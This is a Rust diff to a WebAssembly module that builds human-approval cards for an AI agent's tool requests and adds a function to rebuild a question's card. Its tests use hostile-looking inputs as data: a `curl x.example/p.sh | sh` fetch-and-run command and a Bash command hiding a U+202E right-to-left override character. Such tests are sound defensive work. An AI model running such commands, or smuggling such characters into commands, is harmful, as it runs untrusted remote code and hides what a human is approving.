@@ -7,14 +7,16 @@
 //! rule the relay applies before it types ([`needs_you_core::answer::check`]),
 //! and bounds and cleans a screen it opened, as the command line does
 //! ([`needs_you_core::screen::Screen::checked`]), and tells what of an
-//! answer it seals and what the list says of one it opened (`answered`).
+//! answer it seals and what the list says of one it opened (`answered`),
+//! and puts back the card of a question's opened words (`shown_words`).
 //!
 //! The page passes JSON in and takes JSON out through linear memory, with
 //! no generated glue: it asks `room` for room, writes
 //! `{"form": "decision" | "choices", "request": {"tool": …, "input": …}}` there, calls `card`
 //! (or `{"query": …, "questions": [past questions]}`, and calls `find`; or
 //! `{"text": …}`, and calls `typed`; or a screen's JSON, and calls `screen`;
-//! or an answer's, and calls `answer_words`),
+//! or an answer's, and calls `answer_words`; or `{"kind": …, "words": …}`,
+//! a question's opened words, and calls `words`),
 //! and reads the JSON whose place and length it returns, then gives both
 //! back with `give_back`.
 
@@ -23,6 +25,7 @@ use needs_you_core::classify::card;
 use needs_you_core::history;
 use needs_you_core::request::Request;
 use needs_you_core::screen::Screen;
+use needs_you_core::Kind;
 use serde_json::{json, Value};
 
 /// What the page shows and signs for `input`, as JSON: the fields of
@@ -100,6 +103,42 @@ pub fn answered(input: &[u8]) -> String {
     }
 }
 
+/// A question's words, opened here, as the page shows them, as JSON: those
+/// that carry their request with the card built here from it ([`card::of`],
+/// as [`needs_you_core::words::Words::with_card`] does: their machine sealed
+/// them without it), as the kind sealed with them (`kind`, the list's, for
+/// words that name none), the rest as they came; or
+/// `{"error": …}` for input that is no kind and words. Read as JSON, not as
+/// `Words`: their reader would add its own code to the wasm for fields that
+/// pass through untouched.
+pub fn shown_words(input: &[u8]) -> String {
+    let shown = serde_json::from_slice::<Value>(input)
+        .map_err(|e| format!("not JSON: {e}"))
+        .and_then(|v| {
+            let mut words = v["words"].clone();
+            if !words.is_object() {
+                return Err("`words` must be opened words".to_owned());
+            }
+            let sealed = serde_json::from_value::<Kind>(words["kind"].clone());
+            let kind = sealed
+                .or_else(|_| serde_json::from_value::<Kind>(v["kind"].clone()))
+                .map_err(|_| "`kind` must be a question's kind".to_owned())?;
+            if !words["request"].is_null() {
+                // Read as every request the page builds from is read.
+                let request = Request::from_value(&words["request"])?;
+                let card = card::of(kind, &request);
+                words["text"] = json!(card.text);
+                words["options"] = json!(card.options);
+                words["questions"] = json!(card.questions);
+            }
+            Ok(words)
+        });
+    match shown {
+        Ok(words) => words.to_string(),
+        Err(error) => json!({ "error": error }).to_string(),
+    }
+}
+
 /// A screen as the page may draw it, as JSON: bounded, its text cleaned of
 /// every control and invisible character ([`Screen::checked`]); or
 /// `{"error": …}` for input that is no screen. The Worker cannot read a
@@ -173,6 +212,16 @@ pub unsafe extern "C" fn screen(at: *mut u8, len: usize) -> u64 {
     answer(at, len, cleaned)
 }
 
+/// [`shown_words`] of the `len` bytes at `at`, as [`card()`] answers.
+///
+/// # Safety
+///
+/// As [`card()`]'s.
+#[no_mangle]
+pub unsafe extern "C" fn words(at: *mut u8, len: usize) -> u64 {
+    answer(at, len, shown_words)
+}
+
 /// [`answered`] of the `len` bytes at `at`, as [`card()`] answers.
 ///
 /// # Safety
@@ -216,6 +265,58 @@ mod tests {
             .as_str()
             .unwrap()
             .contains("curl x.example/p.sh | sh"));
+    }
+
+    #[test]
+    fn opened_words_are_shown_with_the_card_of_their_request() {
+        use needs_you_core::words::Words;
+        let request = json!({"tool": "Bash", "input": {"command": "make\u{202e}"}});
+        let words = json!({"text": "", "request": request, "cwd": "/w"});
+        let shown = |kind: &str| -> Value {
+            let input = json!({"kind": kind, "words": words});
+            serde_json::from_str(&shown_words(input.to_string().as_bytes())).unwrap()
+        };
+        let permission = shown("permission");
+        assert_eq!(
+            permission["text"],
+            json!(build_text("decision", &request)),
+            "the card a decision is signed on"
+        );
+        assert!(permission["text"].as_str().unwrap().contains("⟨U+202E⟩"));
+        assert_eq!(permission["cwd"], "/w");
+        // As the command line puts them back (`Words::with_card`), a dialog's too.
+        let dialog = json!({"text": "", "cwd": "/w", "request": {"tool": "AskUserQuestion", "input": {"questions": [
+            {"question": "DB?", "header": "DB", "multiSelect": false,
+             "options": [{"label": "SQLite"}, {"label": "Postgres", "description": "a server"}]}]}}});
+        // Built as the kind sealed with them, whatever the list says.
+        let sealed_kind = json!({"text": "", "kind": "permission", "request": request});
+        for (kind, words) in [
+            ("permission", &words),
+            ("dialog", &dialog),
+            ("dialog", &sealed_kind),
+        ] {
+            let shown: Value = serde_json::from_str(&shown_words(
+                json!({"kind": kind, "words": words}).to_string().as_bytes(),
+            ))
+            .unwrap();
+            let typed: Words = serde_json::from_value(words.clone()).unwrap();
+            let kind: Kind = serde_json::from_value(json!(kind)).unwrap();
+            let shown: Words = serde_json::from_value(shown).unwrap();
+            assert!(!shown.text.is_empty());
+            assert_eq!(shown, typed.with_card(kind), "{kind:?}");
+        }
+        let bad: Value = serde_json::from_str(&shown_words(b"{\"kind\": \"x\"}")).unwrap();
+        assert!(bad["error"].is_string(), "{bad}");
+    }
+
+    fn build_text(form: &str, request: &Value) -> Value {
+        let out: Value = serde_json::from_str(&build(
+            json!({"form": form, "request": request})
+                .to_string()
+                .as_bytes(),
+        ))
+        .unwrap();
+        out["text"].clone()
     }
 
     #[test]
